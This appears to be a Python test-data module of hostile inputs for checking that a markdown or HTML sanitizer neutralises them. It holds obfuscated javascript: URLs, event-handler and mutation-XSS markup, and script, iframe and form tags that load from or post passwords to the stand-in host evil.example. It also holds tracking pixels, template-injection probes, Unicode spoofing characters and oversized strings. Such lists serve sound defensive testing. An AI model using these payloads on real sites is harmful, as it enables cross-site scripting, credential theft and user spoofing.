"""Texts that an attacker would write: none of them may run, load or pass for something else."""

from itertools import product

URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://example.org/1",
    "feed:javascript:alert(1)",
)
LINKS = ("[a]({})", "[a](<{}>)", '[a]({} "t")', "![a]({})", "<{}>", "[a][b]\n\n[b]: {}", '<a href="{}">a</a>')
HANDLERS = ("onclick", "onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerdown")
TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "a href=#",
    "marquee",
    "style",
    "math",
)
MARKUP = (
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg/>'></use></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<div style=background:url(//evil.example)>x</div>",
    "<p id=main class=alert hx-get=//evil.example hx-trigger=load>x</p>",
    "<x hx-on::load=alert(1)>x</x>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <img src=x onerror=alert(1)>",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "[a](https://example.org 'x\" onclick=\"alert(1)')",
    "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "# <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "- <svg onload=alert(1)>",
    "{{ 7|add:7 }} {% load x %} ${7*7} #{7*7}",
    "![x](//evil.example/pixel.gif)",
    "![x](https://evil.example/pixel.gif)",
    "[![x](https://evil.example/pixel.gif)](https://example.org)",
    "@mira<script>alert(1)</script>",
    '@mira" onclick="alert(1)',
)
DISGUISES = (
    "\u202egnp.exe",
    "\u2066hidden\u2069",
    "\u200bmi\u200bra",
    "@mi\u200bra",
    "@m\u0456ra",
    "\ufeffmira",
    "a\u0301" * 500,
    "\U000e0041\U000e0042",
)
HUGE = ("*" * 10_000, "[" * 10_000, "> " * 5_000, "`" * 10_000, "![" * 5_000, "<" * 10_000, "- " * 5_000, "|" * 10_000)

HOSTILE = (
    *(link.format(url) for link, url in product(LINKS, URLS)),
    *(f"<{tag} {handler}=alert(1)>" for tag, handler in product(TAGS, HANDLERS)),
    *MARKUP,
    *DISGUISES,
    *HUGE,
)
